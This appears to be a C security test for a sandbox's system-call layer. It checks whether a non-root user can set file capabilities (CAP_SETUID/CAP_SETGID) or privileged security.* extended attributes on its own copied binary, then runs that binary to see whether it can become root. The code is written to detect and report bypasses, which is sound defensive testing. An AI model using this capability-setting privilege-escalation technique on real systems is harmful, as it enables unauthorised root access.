/* A user of the sandbox other than root gives a file of its own file capabilities
 * (security.capability, which needs CAP_SETFCAP) and reads or sets trusted.* / security.*
 * attributes (CAP_SYS_ADMIN): Linux refuses each. The Sentry sets extended attributes for
 * the caller and must not lend it its own capabilities. If a capability did get set, the
 * program runs the file to see whether it became root. Prints each bypass and "done N
 * bypasses". */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "became") == 0) {
        if (setuid(0) == 0) printf("BYPASS uid 1000 ran its own file with CAP_SETUID and became root\n");
        return 0;
    }
    /* On the root's writable layer when it has one (no nosuid there), else in /tmp. */
    const char *dir = mkdir("/fc", 0777) == 0 ? "/fc" : "/tmp/fc";
    mkdir(dir, 0777);
    chmod(dir, 0777);
    char file[64];
    snprintf(file, sizeof file, "%s/p", dir);
    if (setgid(1000) || setuid(1000)) {
        perror("setuid");
        return 2;
    }
    int bypasses = 0;
    /* A copy of this program, the user's own. */
    int in = open(argv[0], O_RDONLY), out = open(file, O_CREAT | O_WRONLY | O_TRUNC, 0755);
    char buf[65536];
    ssize_t n;
    while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) write(out, buf, n);
    close(in);
    close(out);
    /* VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE; permitted: CAP_SETGID (6), CAP_SETUID (7). */
    unsigned int caps[5] = {0x02000001, (1u << 6) | (1u << 7), 0, 0, 0};
    int set = setxattr(file, "security.capability", caps, sizeof caps, 0) == 0;
    if (set) {
        printf("BYPASS setxattr security.capability as uid 1000\n");
        bypasses++;
    }
    if (setxattr(file, "security.evil", "x", 1, 0) == 0) {
        printf("BYPASS setxattr security.evil as uid 1000\n");
        bypasses++;
    }
    fflush(stdout);
    if (set) {
        pid_t pid = fork();
        if (pid == 0) {
            execl(file, file, "became", (char *)NULL);
            _exit(0);
        }
        int st;
        while (wait(&st) > 0) {}
    }
    printf("done %d bypasses\n", bypasses);
    return 0;
}
